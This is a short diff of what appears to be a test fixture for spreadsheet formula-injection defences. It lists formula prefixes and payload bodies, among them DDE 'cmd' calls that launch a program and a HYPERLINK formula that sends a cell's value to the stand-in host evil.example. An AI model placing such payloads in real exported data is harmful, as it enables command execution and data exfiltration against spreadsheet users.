@@ -4,7 +4,7 @@ STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "
 BODIES = (
     "1+1",
     "cmd|'/C calc'!A0",
-    'HYPERLINK("http://evil.example?x="&A1,"click")',
+    'HYPERLINK("//evil.example/"&A1,"go")',
     "SUM(1+9)*cmd|' /C calc'!A0",
 )
 LEADS = ("", " ", "\u00a0", "\ufeff")
